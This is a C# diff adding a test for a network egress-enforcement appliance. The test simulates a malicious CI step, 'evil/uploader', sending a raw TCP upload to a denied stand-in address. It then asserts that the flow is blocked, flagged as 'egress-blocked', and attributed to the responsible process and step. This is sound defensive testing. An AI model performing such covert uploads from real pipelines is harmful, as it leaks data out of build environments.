@@ -135,6 +135,34 @@ public sealed class NetworkAttributionTests(ITestOutputHelper output)
         output.WriteLine($"report: {network.Count} network entries; dns: {attributed.Count} of {dns.Count} attributed");
     }
 
+    [SkippableFact]
+    public async Task Block_DroppedFlow_EgressBlockedNamesTheProcessAndStep()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, EnforcementCoreTests.Policy);
+        var env = new Dictionary<string, string> { ["GITHUB_ACTION"] = "__evil_uploader", ["GITHUB_ACTION_REPOSITORY"] = "evil/uploader" };
+
+        // a raw TCP upload to a denied address: its SYNs are dropped while the client waits (SYN_SENT), so its socket
+        // is there when the logged packet is looked up
+        var marker = EnforcementCoreTests.Unique("blocked-");
+        var send = await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, marker, env);
+        Assert.False(send.Succeeded, send.ToString());
+
+        var stop = await appliance.StopAsync();
+        Assert.Equal(0, stop.ExitCode);
+        using var report = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(appliance.StateDir, "report.json")));
+        var flow = Assert.Single(report.RootElement.GetProperty("network").EnumerateArray(), e =>
+            e.GetProperty("kind").GetString() == "tcp" && e.GetProperty("address").GetString() == "198.51.100.20" && e.GetProperty("port").GetInt32() == 9000);
+        Assert.Equal(("deny", "blocked"), (flow.GetProperty("decision").GetString(), flow.GetProperty("action").GetString()));
+        var step = new Step("__evil_uploader", "evil/uploader", "python3", "", "");
+        AssertMadeBy(flow, step);
+        var detection = Assert.Single(report.RootElement.GetProperty("detections").EnumerateArray(), d =>
+            d.GetProperty("type").GetString() == "egress-blocked" && d.GetProperty("evidence").GetProperty("address").GetString() == "198.51.100.20");
+        Assert.Equal("9000", detection.GetProperty("evidence").GetProperty("port").GetString());
+        AssertMadeBy(detection, step);
+    }
+
     private static List<JsonElement> Requests(List<JsonElement> network, string marker) =>
         [.. network.Where(e => e.GetProperty("kind").GetString() is "https" or "http"
             && (e.GetProperty("path").GetString() ?? "").Contains(marker, StringComparison.Ordinal))];
